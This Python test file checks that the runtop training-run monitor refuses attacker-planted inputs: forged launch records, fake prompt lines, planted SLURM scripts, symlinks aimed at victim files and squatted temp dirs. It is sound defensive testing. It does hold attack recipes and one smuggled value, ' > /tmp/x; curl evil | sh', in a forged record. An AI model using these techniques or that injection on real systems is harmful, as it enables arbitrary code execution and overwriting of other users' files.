"""The run dir is untrusted: whoever can write it chooses nothing runtop types, runs or writes.

Each story is an attack that once worked, played against real parts: a real tmux server on a
private socket, files made by another user (`setpriv`/`runuser` as `nobody`, or `chown`), the
SLURM stand-ins answering in real formats, real child processes, a real full filesystem where
one can be mounted (else `RLIMIT_FSIZE`, which fails a write past the limit as a full disk does).
Each shows what is refused and that the reason is said.
"""

from __future__ import annotations

import json
import os
import resource
import shutil
import signal
import stat
import subprocess
import sys
import time

import pytest

from runtop.actions.launcher import record_pane
from runtop.actions.vetted import plan
from runtop.engine.snapshot import read_run_reader
from runtop.outputs.delivery import AlertJob, command_runner
from runtop.outputs.forensics import collect
from runtop.outputs.notify import Message
from runtop.rules.health import Verdict
from runtop.sources.processes import ProcessSnapshot
from runtop.sources.tmux import Tmux
from runtop.sources.writes import OutputError, private_dir
from tests.live.test_actions import LAUNCH, context, launched, received, stop_run, tmux, wait_for
from tests.live.test_slurm import slurm, slurm_run  # noqa: F401 - the fixture
from tests.live.test_slurm_actions import launcher, open_launcher, runtop  # noqa: F401 - the fixture

NOBODY = 65534
ROOT = os.geteuid() == 0
needs_root = pytest.mark.skipif(not ROOT, reason="making a file another user's needs root")
needs_tmux = pytest.mark.skipif(shutil.which("tmux") is None, reason="tmux is not installed (.ci/run installs it)")
PY = sys.executable


def as_nobody(folder, name: str, text: str) -> None:
    """`text` written into `folder/name` by a process running as `nobody` (the attacker): the
    folder is reached through an inherited descriptor, so only its own mode lets them in."""
    tool = (["setpriv", f"--reuid={NOBODY}", f"--regid={NOBODY}", "--clear-groups"] if shutil.which("setpriv")
            else ["runuser", "-u", "nobody", "--"])
    fd = os.open(folder, os.O_RDONLY | os.O_DIRECTORY)
    try:
        r = subprocess.run([*tool, "sh", "-c", f'cat > "/proc/self/fd/{fd}/{name}"'], input=text, text=True, pass_fds=[fd],
                           capture_output=True, timeout=30)
    finally:
        os.close(fd)
    assert r.returncode == 0, r.stderr
    assert os.stat(os.path.join(folder, name)).st_uid == NOBODY


def evil_script(tmp_path) -> str:
    """What the attacker wants typed: it leaves PWNED behind if it ever runs."""
    path = tmp_path / "evil.sh"
    path.write_text(f"touch {tmp_path}/PWNED\n")
    return str(path)


# ---- a forged .runtop/launch.json ------------------------------------------------------------
FORGERIES = {
    "owned by another user": ".runtop/launch.json is owned by nobody, not by root",
    "written by another user into a world-writable .runtop": ".runtop/launch.json is owned by nobody, not by root",
    "a world-writable file": ".runtop/launch.json is writable by its group and by others",
    "a group-writable .runtop": ".runtop is writable by its group",
    ".runtop a symbolic link": ".runtop is a symbolic link",
}


@needs_tmux
@pytest.mark.parametrize("how", list(FORGERIES))
def test_a_forged_launch_record_naming_a_live_shell_pane_types_nothing(live_run, tmp_path, how):
    """The attack: `.runtop/launch.json` naming the live Launcher pane and `"argv": ["bash",
    "/tmp/evil.sh"]` made `runtop send resume --yes` type `bash /tmp/evil.sh … --resume.step 4`.
    A record runtop did not write itself (another user's, or one others could have changed) is
    ignored, and the plan says so."""
    if "another user" in how and not ROOT:
        pytest.skip("making a file another user's needs root")
    root, sock = live_run
    stop_run(root, sock)
    dot = root / ".runtop"
    pane = Tmux(sock).pane(json.load(open(dot / "launch.json"))["pane_id"])
    assert pane is not None
    # The control: runtop's own record of the launcher's argv resumes, and says where it came from.
    record_pane(str(root), pane, LAUNCH.split())
    p = plan("resume", context(root, sock, launch_cmd=None))
    assert p.disabled is None and p.text == LAUNCH + " --resume.step 4", p.disabled
    assert any("recorded by runtop in .runtop/launch.json" in n for n in p.notes), p.notes

    forged = json.dumps({**json.load(open(dot / "launch.json")), "argv": ["bash", evil_script(tmp_path)]})
    if how == "owned by another user":
        (dot / "launch.json").write_text(forged)
        os.chown(dot / "launch.json", NOBODY, NOBODY)
    elif how == "written by another user into a world-writable .runtop":
        os.chmod(dot, 0o777)
        os.unlink(dot / "launch.json")
        as_nobody(dot, "launch.json", forged)
    elif how == "a world-writable file":
        (dot / "launch.json").write_text(forged)
        os.chmod(dot / "launch.json", 0o666)
    elif how == "a group-writable .runtop":
        (dot / "launch.json").write_text(forged)
        os.chmod(dot, 0o775)
    else:
        elsewhere = tmp_path / "elsewhere"
        os.rename(dot, elsewhere)
        (elsewhere / "launch.json").write_text(forged)
        os.symlink(elsewhere, dot)

    p = plan("resume", context(root, sock, launch_cmd=None))
    assert p.disabled and "cannot prove which tmux pane" in p.disabled and FORGERIES[how] in p.disabled, p.disabled
    assert "ignored" in p.disabled and "evil" not in p.text
    r = runtop("send", "resume", str(root), "--yes", "--tmux-socket", sock)
    assert r.returncode == 2 and FORGERIES[how] in r.stderr and len(r.stderr.splitlines()) == 1, r.stderr
    time.sleep(0.5)
    assert launched(root) == [LAUNCH] and received(root) == "" and not (tmp_path / "PWNED").exists()
    assert "evil" not in tmux(sock, "capture-pane", "-p", "-t", pane.pane_id)


# ---- a line the run prints -------------------------------------------------------------------
@needs_tmux
def test_a_line_the_run_prints_that_looks_like_a_prompt_is_never_the_launch_command(live_run, tmp_path):
    """The attack: the run printed `root@gpu:~/prime-rl$ bash /tmp/evil.sh`, and runtop read it
    from the pane's history as the command typed there. The screen is never a source now: with
    no live launcher and no record of runtop's own, the plan asks for --launch-cmd."""
    root, sock = live_run
    stop_run(root, sock)
    os.unlink(root / ".runtop" / "launch.json")
    evil = evil_script(tmp_path)
    line = f"root@gpu:~/prime-rl$ bash {evil}"
    # The "run" prints it (a Python child of the shell), as any training script can.
    tmux(sock, "send-keys", "-t", "prime-rl:Launcher", f"{PY} -c 'import sys; print(sys.argv[1])' '{line}'", "Enter")
    assert wait_for(lambda: line in tmux(sock, "capture-pane", "-p", "-t", "prime-rl:Launcher").splitlines())
    ctx = context(root, sock, launch_cmd=None, target="prime-rl:Launcher.0")
    p = plan("resume", ctx)
    assert p.disabled and "no launch command: give --launch-cmd" in p.disabled, p.disabled
    r = runtop("send", "resume", str(root), "--yes", "--tmux-socket", sock, "--tmux-target", "prime-rl:Launcher.0")
    assert r.returncode == 2 and "no launch command" in r.stderr, r.stderr
    time.sleep(0.5)
    assert launched(root) == [LAUNCH] and not (tmp_path / "PWNED").exists()


# ---- a planted SLURM job log and batch script --------------------------------------------------
def plant_slurm(root: str, tmp_path, slurm, *, job_user: str, by_nobody: bool, script_by_nobody: bool = False,  # noqa: F811
                loose_dir: bool = False) -> None:
    """The attack: `slurm-5555.out` (newer than the run's own `job_4242.log`, so it names "the
    run's job") and `zz.sh` with `#SBATCH -o slurm-%j.out`; sacct knows job 5555 as `job_user`'s."""
    cfg = slurm("23.11", state="TIMEOUT", exit="0:0", elapsed=86400, limit_min=1440)
    doc = json.load(open(cfg))
    doc["jobs"]["5555"] = {"name": "zz", "state": "TIMEOUT", "exit": "0:0", "elapsed": 60, "limit_min": 60, "user": job_user}
    open(cfg, "w").write(json.dumps(doc))
    script = f"#!/bin/bash\n#SBATCH -o slurm-%j.out\nbash {evil_script(tmp_path)}\n"
    if loose_dir:
        os.chmod(root, 0o777)
    for name, text, nobody in (("zz.sh", script, by_nobody or script_by_nobody), ("slurm-5555.out", "hello\n", by_nobody)):
        if nobody and loose_dir:
            as_nobody(root, name, text)
        else:
            with open(os.path.join(root, name), "w") as f:
                f.write(text)
            if nobody:
                os.chown(os.path.join(root, name), NOBODY, NOBODY)
    later = time.time() + 5
    os.utime(os.path.join(root, "slurm-5555.out"), (later, later))


PLANTS = {
    "a job another user submitted": ({"job_user": "mallory", "by_nobody": False}, "SLURM job 5555 was submitted by mallory, not by you (root)"),
    "a job log another user planted": ({"job_user": "root", "by_nobody": True}, "slurm-5555.out is owned by nobody, not by root"),
    "a script another user planted": ({"job_user": "root", "by_nobody": False, "script_by_nobody": True},
                                      "(ignored: zz.sh is owned by nobody, not by root)"),
    "both planted into a world-writable run dir": ({"job_user": "root", "by_nobody": True, "loose_dir": True},
                                                   "slurm-5555.out is owned by nobody, not by root"),
}


@needs_tmux
@needs_root
@pytest.mark.parametrize("how", list(PLANTS))
def test_a_planted_slurm_job_log_and_script_resubmit_nothing(tmp_path, slurm, launcher, how):  # noqa: F811
    """The attack: a planted `slurm-5555.out` plus a script writing `slurm-%j.out` made the
    SLURM resume `sbatch RUN/zz.sh`, nothing checking who owns the job or the script."""
    root = slurm_run(tmp_path)
    kw, words = PLANTS[how]
    plant_slurm(root, tmp_path, slurm, **kw)
    open_launcher(launcher, root)
    opts = ["--tmux-socket", launcher, "--tmux-session", "slurmrun"]
    r = runtop("actions", root, *opts)
    resume = r.stdout.split("\nstop ")[0]
    assert "disabled:" in resume and words in resume and "sbatch" not in resume.split("disabled:")[0], r.stdout
    r = runtop("send", "resume", root, "--yes", *opts)
    assert r.returncode == 2 and words in r.stderr, r.stderr
    time.sleep(0.3)
    assert not any(c[0] == "sbatch" for c in slurm.calls()) and not (tmp_path / "PWNED").exists()


@needs_tmux
def test_the_users_own_slurm_job_and_script_still_resume(tmp_path, slurm, launcher):  # noqa: F811
    """The control: the same files, the user's own, for a job sacct says is theirs."""
    root = slurm_run(tmp_path)
    plant_slurm(root, tmp_path, slurm, job_user=__import__("pwd").getpwuid(os.geteuid()).pw_name, by_nobody=False)
    open_launcher(launcher, root)
    r = runtop("actions", root, "--tmux-socket", launcher, "--tmux-session", "slurmrun")
    assert f"sends: sbatch {os.path.realpath(root)}/zz.sh" in r.stdout.split("\nstop ")[0], r.stdout


def test_a_group_writable_run_dir_proves_no_batch_script(tmp_path, slurm):  # noqa: F811
    """A run dir others can write: any script in it may be theirs, so none is the run's."""
    from runtop.actions.slurm import NoProof, resume_text
    from runtop.sources.slurm import read_job

    root = slurm_run(tmp_path)
    slurm("23.11", state="TIMEOUT", exit="0:0", elapsed=86400, limit_min=1440)
    with open(os.path.join(root, "rl.sbatch"), "w") as f:
        f.write(f"#!/bin/bash\n#SBATCH --output={root}/job_%j.log\nuv run rl\n")
    os.chmod(root, 0o775)
    snap = read_job(root)
    assert snap is not None
    with pytest.raises(NoProof, match="the run dir is writable by its group"):
        resume_text(root, snap)


# ---- writes that followed symbolic links -----------------------------------------------------------
def victim(tmp_path, name: str = "victim.txt"):
    path = tmp_path / name
    path.write_text("precious\n")
    return path


def run_on_alert(root: str, tmp_path) -> dict:
    """A real on-alert command: it reports the status JSON path it was given and its mode."""
    out = tmp_path / "seen.json"
    script = ("import json, os, stat, sys; p = os.environ['RUNTOP_JSON']; st = os.lstat(p);"
              "json.dump({'path': p, 'mode': stat.S_IMODE(st.st_mode), 'link': stat.S_ISLNK(st.st_mode), 'doc': json.load(open(p))},"
              " open(sys.argv[1], 'w'))")
    run = command_runner((PY, "-c", script, str(out)), 20, root)
    run(AlertJob(Message("incident", "t", "b", "Down"), {"RUNTOP_RUN": root}, json.dumps({"health": {"verdict": "Down"}})))
    return json.loads(out.read_text())


def test_symlinks_planted_for_the_alert_status_and_the_on_alert_log_are_never_followed(simulated, tmp_path):
    """The attack: `.runtop/alert-status.json.<pid>.tmp`, `alert-status.json` and `on-alert.log`
    as links to the victim's files: the status JSON overwrote one, the log appended to another."""
    root = simulated("trainer-oom", max_steps=9)
    dot = os.path.join(root, ".runtop")
    os.makedirs(dot, exist_ok=True)
    v1, v2, v3 = victim(tmp_path, "v1"), victim(tmp_path, "v2"), victim(tmp_path, "v3")
    os.symlink(v1, os.path.join(dot, f"alert-status.json.{os.getpid()}.tmp"))  # the old temporary name
    os.symlink(v2, os.path.join(dot, "alert-status.json"))
    os.symlink(v3, os.path.join(dot, "on-alert.log"))
    seen = run_on_alert(root, tmp_path)
    assert seen["path"] == os.path.join(dot, "alert-status.json") and not seen["link"] and seen["mode"] == 0o600
    assert seen["doc"] == {"health": {"verdict": "Down"}}
    assert [v.read_text() for v in (v1, v2, v3)] == ["precious\n"] * 3
    assert os.path.islink(os.path.join(dot, "on-alert.log"))  # refused, not written through
    assert not [n for n in os.listdir(dot) if n.endswith(".tmp") and not os.path.islink(os.path.join(dot, n))]  # no leftovers


def test_a_symlinked_runtop_dir_gets_nothing_and_the_fallback_is_private(simulated, tmp_path, monkeypatch):
    """`.runtop` itself a link to the victim's dir: no record, status JSON or log goes there.
    The status JSON goes to the user's private dir (0700), not the fixed shared
    `/tmp/alert-status.json` it once went to (a link planted there is left alone)."""
    shared = tmp_path / "shared-tmp"
    shared.mkdir()
    os.chmod(shared, 0o1777)  # a /tmp
    monkeypatch.setattr("tempfile.tempdir", str(shared))
    monkeypatch.delenv("XDG_RUNTIME_DIR", raising=False)
    v = victim(tmp_path)
    os.symlink(v, shared / "alert-status.json")
    root = simulated("trainer-oom", max_steps=9)
    target = tmp_path / "victims-dir"
    target.mkdir()
    os.symlink(target, os.path.join(root, ".runtop"))
    seen = run_on_alert(root, tmp_path)
    mine = shared / f"runtop-{os.geteuid()}"
    assert os.path.dirname(seen["path"]) == str(mine) and os.path.basename(seen["path"]).startswith("alert-status.")
    st = os.lstat(mine)
    assert stat.S_ISDIR(st.st_mode) and st.st_uid == os.geteuid() and stat.S_IMODE(st.st_mode) == 0o700
    from runtop.actions.launcher import recorded_pane
    from runtop.sources.tmux import Pane

    record_pane(root, Pane("s", "Launcher", "%9", os.getpid(), "bash"), ["bash", "x.sh"])
    assert os.listdir(target) == [] and v.read_text() == "precious\n"
    assert recorded_pane(root) == (None, ".runtop is a symbolic link: ignored")


@needs_root
def test_a_squatted_private_dir_name_is_not_used(tmp_path, monkeypatch):
    """Another user made `<tmp>/runtop-<uid>` first (theirs, open to all): runtop makes a fresh
    private dir of its own instead, never writing into theirs."""
    shared = tmp_path / "shared-tmp"
    shared.mkdir()
    os.chmod(shared, 0o1777)
    monkeypatch.setattr("tempfile.tempdir", str(shared))
    monkeypatch.delenv("XDG_RUNTIME_DIR", raising=False)
    squat = shared / f"runtop-{os.geteuid()}"
    squat.mkdir()
    os.chmod(squat, 0o777)
    os.chown(squat, NOBODY, NOBODY)
    with private_dir() as d:
        assert d.path != str(squat) and os.path.dirname(d.path) == str(shared) and os.path.basename(d.path).startswith(f"runtop-{os.geteuid()}-")
        st = os.stat(d.path)
        assert st.st_uid == os.geteuid() and stat.S_IMODE(st.st_mode) == 0o700
    assert os.listdir(squat) == []


def test_xdg_runtime_dir_is_the_private_dir_when_it_is_the_users(tmp_path, monkeypatch):
    xdg = tmp_path / "run-user"
    xdg.mkdir(mode=0o700)
    monkeypatch.setenv("XDG_RUNTIME_DIR", str(xdg))
    with private_dir() as d:
        assert d.path == str(xdg / "runtop") and stat.S_IMODE(os.stat(d.path).st_mode) == 0o700
    os.chmod(xdg, 0o755)  # not private: not used
    monkeypatch.setattr("tempfile.tempdir", str(tmp_path))
    with private_dir() as d:
        assert d.path == str(tmp_path / f"runtop-{os.geteuid()}")


def test_forensics_never_write_into_a_folder_or_link_someone_made_first(simulated, tmp_path, monkeypatch):
    """The attack: `.runtop/forensics/<second>/…` made in advance (a link to the victim's dir, or
    a folder whose `stacks` is one): the dumps went where they pointed."""
    monkeypatch.setattr("runtop.outputs.forensics.py_spy", lambda: None)
    root = simulated("healthy", max_steps=4)
    now = 1_790_000_000.0
    stamp = time.strftime("%Y%m%dT%H%M%SZ", time.gmtime(now))
    base = os.path.join(root, ".runtop", "forensics")
    os.makedirs(base)
    target = tmp_path / "victims-dir"
    target.mkdir()
    os.symlink(target, os.path.join(base, stamp))
    os.makedirs(os.path.join(base, stamp + "-2"))
    os.symlink(target, os.path.join(base, stamp + "-2", "logs"))
    result = collect(read_run_reader(root).state, Verdict("Down"), ProcessSnapshot(), now=now)
    assert result.folder == os.path.join(base, stamp + "-3")
    assert os.path.isfile(os.path.join(result.folder, "summary.txt")) and os.listdir(target) == []
    # `forensics` itself a link: the folder goes to the private dir, and the reason is said.
    shutil.rmtree(base)
    os.symlink(target, base)
    monkeypatch.setattr("tempfile.tempdir", str(tmp_path))
    monkeypatch.delenv("XDG_RUNTIME_DIR", raising=False)
    result = collect(read_run_reader(root).state, Verdict("Down"), ProcessSnapshot(), now=now)
    assert result.folder.startswith(str(tmp_path / f"runtop-{os.geteuid()}" / "forensics")) and os.listdir(target) == []
    assert any("forensics is a symbolic link" in p for p in result.problems), result.problems


# ---- a full disk ---------------------------------------------------------------------------
def _fsize(limit: int):
    """A child whose writes fail past `limit` bytes, as on a full disk (EFBIG, short writes)."""

    def limit_it() -> None:
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # the error, not the signal's kill
        resource.setrlimit(resource.RLIMIT_FSIZE, (limit, limit))

    return limit_it


def test_a_checkin_on_a_full_disk_is_whole_or_absent(simulated):
    """The check-in could not all be written: STATUS.md keeps exactly what it had (a torn
    half-entry once stayed), and runtop says so in one line."""
    root = simulated("trainer-oom", max_steps=9)
    status = os.path.join(root, "STATUS.md")
    with open(status, "w") as f:
        f.write("## yesterday\n\nall good\n")
    before = open(status, "rb").read()
    r = subprocess.run([PY, "-m", "runtop", "status", root, "--append"], capture_output=True, text=True, timeout=60,
                       preexec_fn=_fsize(len(before) + 64))
    assert r.returncode == 2, r.stderr
    assert r.stderr.splitlines() == [f"runtop: cannot write {status}: File too large; nothing was appended"] or \
        (len(r.stderr.splitlines()) == 1 and "nothing was appended" in r.stderr), r.stderr
    assert open(status, "rb").read() == before
    r = subprocess.run([PY, "-m", "runtop", "status", root, "--append"], capture_output=True, text=True, timeout=60)
    assert r.returncode == 0 and open(status, "rb").read().startswith(before + b"\n## ")


def test_forensics_on_a_full_disk_is_one_line_and_leaves_no_half_folder(simulated, tmp_path):
    root = simulated("healthy", max_steps=4)
    env = {**os.environ, "TMPDIR": str(tmp_path / "tmp")}
    env.pop("XDG_RUNTIME_DIR", None)
    os.makedirs(tmp_path / "tmp")
    r = subprocess.run([PY, "-m", "runtop", "forensics", root], capture_output=True, text=True, timeout=120, env=env, preexec_fn=_fsize(0))
    out = (r.stdout + r.stderr).strip().splitlines()
    assert r.returncode == 2 and len(out) == 1 and out[0].startswith("runtop: forensics not saved: cannot write "), out
    assert "File too large" in out[0] and "Traceback" not in r.stderr
    assert os.listdir(os.path.join(root, ".runtop", "forensics")) == []
    assert os.listdir(tmp_path / "tmp" / f"runtop-{os.geteuid()}" / "forensics" / os.path.basename(root)) == []


@pytest.fixture
def small_disk(tmp_path):
    """A real 1 MiB tmpfs (where this machine lets the tests mount one)."""
    mnt = tmp_path / "disk"
    mnt.mkdir()
    r = subprocess.run(["mount", "-t", "tmpfs", "-o", "size=1m,mode=0700", "tmpfs", str(mnt)], capture_output=True, text=True)
    if r.returncode != 0:
        pytest.skip(f"cannot mount a tmpfs here: {r.stderr.strip()}")
    try:
        yield mnt
    finally:
        subprocess.run(["umount", "-l", str(mnt)], capture_output=True)


def fill(folder) -> None:
    """Every free block of the filesystem taken."""
    fd = os.open(os.path.join(folder, "filler"), os.O_WRONLY | os.O_CREAT, 0o600)
    try:
        while os.write(fd, b"x" * 4096):
            pass
    except OSError:
        pass
    finally:
        os.close(fd)


def test_a_checkin_onto_a_really_full_filesystem_tears_nothing(small_disk):
    from runtop.outputs.checkin import append_checkin

    status = small_disk / "STATUS.md"
    status.write_text("## yesterday\n\nall good\n")
    before = status.read_bytes()
    fill(small_disk)
    with pytest.raises(OutputError, match="No space left on device|nothing was appended"):
        append_checkin(str(status), "## today\n\n" + "a long note\n" * 2000)
    assert status.read_bytes() == before
    os.unlink(small_disk / "filler")
    append_checkin(str(status), "## today\n\nfine\n")
    assert status.read_bytes() == before + b"\n## today\n\nfine\n"


def test_forensics_of_a_run_on_a_full_filesystem_go_to_the_private_dir(small_disk, tmp_path):
    from runtop.frameworks.primerl.sim import Simulator

    root = str(small_disk / "run")
    Simulator(root, scenario="healthy", max_steps=3).run()
    fill(small_disk)
    env = {**os.environ, "TMPDIR": str(tmp_path / "tmp")}
    env.pop("XDG_RUNTIME_DIR", None)
    os.makedirs(tmp_path / "tmp")
    r = subprocess.run([PY, "-m", "runtop", "forensics", root], capture_output=True, text=True, timeout=120, env=env)
    assert r.returncode == 0 and "Traceback" not in r.stderr, r.stderr
    assert len(r.stdout.strip().splitlines()) == 1 and "not saved in the run dir (" in r.stdout and "No space left on device" in r.stdout
    assert r.stdout.rstrip().endswith(tuple(os.listdir(tmp_path / "tmp" / f"runtop-{os.geteuid()}" / "forensics" / "run")))
    assert os.listdir(os.path.join(root, ".runtop", "forensics")) == []


def test_the_redirect_a_resume_types_is_the_launchers_own_stdout_never_a_printed_line(tmp_path):
    """A resume must keep `> train.log 2>&1` (else the resumed trainer prints into the pane and
    its log never hears of it), read from the launcher's own file descriptors; a record whose
    redirect is anything but that shape is not believed."""
    import subprocess

    from runtop.actions.launcher import recorded_pane, redirect_of

    log = tmp_path / "train.log"
    with open(log, "w") as out:
        p = subprocess.Popen(["sleep", "30"], stdout=out, stderr=subprocess.STDOUT)
    with open(log, "a") as out:
        q = subprocess.Popen(["sleep", "30"], stdout=out, stderr=subprocess.DEVNULL)
    r = subprocess.Popen(["sleep", "30"], stdout=subprocess.PIPE)
    try:
        assert redirect_of(p.pid) == f" > {log} 2>&1"
        assert redirect_of(q.pid) == f" >> {log}"  # stderr to /dev/null is not replayed
        assert redirect_of(r.pid) == ""  # a pipe (`| tee`) is not replayed
    finally:
        for proc in (p, q, r):
            proc.kill()
            proc.wait()
    root = tmp_path / "run"
    (root / ".runtop").mkdir(parents=True)
    forged = {"pane_id": "%1", "shell_pid": 1, "session": "s", "window": "Launcher", "run": str(root),
              "argv": ["python", "train.py"], "redirect": " > /tmp/x; curl evil | sh"}
    (root / ".runtop" / "launch.json").write_text(json.dumps(forged))
    rec, why = recorded_pane(str(root))
    assert rec is None and why is not None and "redirect" in why
